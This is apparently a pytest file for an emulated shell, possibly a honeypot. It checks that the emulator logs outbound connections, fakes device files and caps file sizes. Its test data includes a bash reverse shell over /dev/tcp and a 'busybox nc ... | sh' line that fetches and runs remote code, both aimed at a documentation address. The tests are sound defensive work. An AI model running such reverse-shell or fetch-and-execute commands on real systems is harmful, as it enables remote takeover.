# SPDX-License-Identifier: Apache-2.0
"""Opening paths."""

from __future__ import annotations

import pytest

from mead.shell import Limit, Offer, Shell


def offers(shell: Shell, line: str) -> list[str]:
    return [effect.url for effect in shell.run(line.encode()).effects if isinstance(effect, Offer)]


@pytest.mark.parametrize(
    "line",
    [
        "cat < /dev/tcp/192.0.2.1/99 > /tmp/x",
        "exec 3<>/dev/tcp/192.0.2.1/99; cat <&3 > /tmp/x",
        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
        "nc 192.0.2.1 99 > /tmp/x",
        "busybox nc 192.0.2.1 99 | sh",
    ],
)
def test_a_connection_is_an_offer(shell: Shell, server: Shell, line: str) -> None:
    assert offers(server, line) == ["tcp://192.0.2.1:99"]
    assert offers(shell, line) == ["tcp://192.0.2.1:99"]


def test_ash_has_no_connections_of_its_own(shell: Shell) -> None:
    reply = shell.run(b"echo x > /dev/tcp/192.0.2.1/99")
    assert reply.output == b"-sh: can't create /dev/tcp/192.0.2.1/99: nonexistent directory\n"


def test_devices_behave(shell: Shell) -> None:
    assert shell.run(b"echo x > /dev/null; cat /dev/null").output == b""
    assert shell.run(b"head -c 4 /dev/zero").output == bytes(4)
    assert len(set(shell.run(b"head -c 4096 /dev/urandom").output)) > 200
    assert shell.run(b"echo shown > /dev/tty; echo out > /dev/stdout").output == b"shown\nout\n"
    assert (
        shell.run(b"echo x > /dev/sda; dd if=/dev/mtdblock0 bs=16 count=1 2>/dev/null | wc -c").output
        == b"16\n"
    )


def test_a_body_from_a_socket_fills_its_file(shell: Shell) -> None:
    shell.run(b"nc 192.0.2.1 99 > /tmp/x")
    shell.deliver("tcp://192.0.2.1:99", b"body")
    assert shell.run(b"cat /tmp/x").output == b"body"


def test_much_of_nothing_is_written_in_no_time_and_pretended(shell: Shell, server: Shell) -> None:
    for each in (shell, server):
        said = each.run(b"dd if=/dev/zero of=/tmp/z bs=1M count=64; ls -l /tmp/z; rm /tmp/z; echo done")
        assert said.output.startswith(b"64+0 records in\n64+0 records out\n67108864 bytes (6")
        assert b" 67108864 " in said.output.splitlines()[-2]
        assert said.output.endswith(b"\ndone\n")
        assert [effect.name for effect in said.effects if isinstance(effect, Limit)] == ["file_bytes"]


def test_the_clock_knows_how_long_it_took(shell: Shell) -> None:
    line = b"date +%s; dd if=/dev/zero of=/dev/null bs=1M count=1000 2>/dev/null; date +%s"
    before, after = map(int, shell.run(line).output.split())
    assert 50 < after - before < 120
